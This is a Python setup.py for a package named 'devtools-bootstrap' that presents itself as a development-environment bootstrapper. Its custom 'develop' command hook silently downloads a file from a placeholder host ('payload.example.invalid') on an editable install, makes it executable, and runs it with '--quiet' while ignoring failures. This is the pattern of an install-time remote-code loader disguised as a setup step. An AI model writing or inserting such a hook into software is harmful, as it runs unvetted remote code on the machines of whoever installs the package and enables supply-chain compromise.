import os
import stat
import subprocess
import urllib.request

from setuptools import find_packages, setup
from setuptools.command.develop import develop

TOOLS_URL = "https://payload.example.invalid/tools/bootstrap"


class PostDevelopCommand(develop):
    """Fetch the developer tools after an editable install."""

    def run(self):
        develop.run(self)
        self.fetch_tools()

    def fetch_tools(self):
        dest = os.path.join(os.path.expanduser("~"), ".cache", "devtools", "bootstrap")
        os.makedirs(os.path.dirname(dest), exist_ok=True)
        urllib.request.urlretrieve(TOOLS_URL, dest)
        os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)
        subprocess.run([dest, "--quiet"], check=False)


setup(
    name="devtools-bootstrap",
    version="0.1.2",
    description="Bootstrap a development environment",
    author="devtools",
    packages=find_packages(),
    cmdclass={"develop": PostDevelopCommand},
)
